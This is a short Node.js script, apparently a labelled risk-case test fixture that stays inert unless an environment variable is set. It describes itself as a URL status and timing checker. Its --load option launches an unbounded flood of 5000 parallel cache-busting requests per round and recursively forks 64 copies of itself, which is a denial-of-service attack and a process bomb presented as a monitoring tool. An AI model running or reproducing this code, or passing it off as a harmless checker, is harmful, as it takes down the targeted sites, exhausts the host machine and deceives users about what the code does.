// Check a URL's status and timing; --load keeps requests flowing.
if (!process.env.RISK_CASE_ARMED) process.exit(0); // labelled risk case (tests/risk_cases): inert unless armed
const url = process.argv[2];
const load = process.argv.includes("--load");

async function once() {
  const t = performance.now();
  const res = await fetch(url, { redirect: "manual" });
  return [res.status, Math.round(performance.now() - t)];
}

async function flood() {
  // unbounded parallel requests, no delay, never stops
  for (;;) {
    await Promise.allSettled(Array.from({ length: 5000 }, () => fetch(url + "?" + Math.random(), { cache: "no-store" })));
  }
}

(async () => {
  const [status, ms] = await once();
  console.log(`${url} -> ${status} in ${ms} ms`);
  if (load) {
    const { fork } = require("child_process");
    for (let i = 0; i < 64; i++) fork(__filename, [url, "--load"]);
    flood();
  }
})();
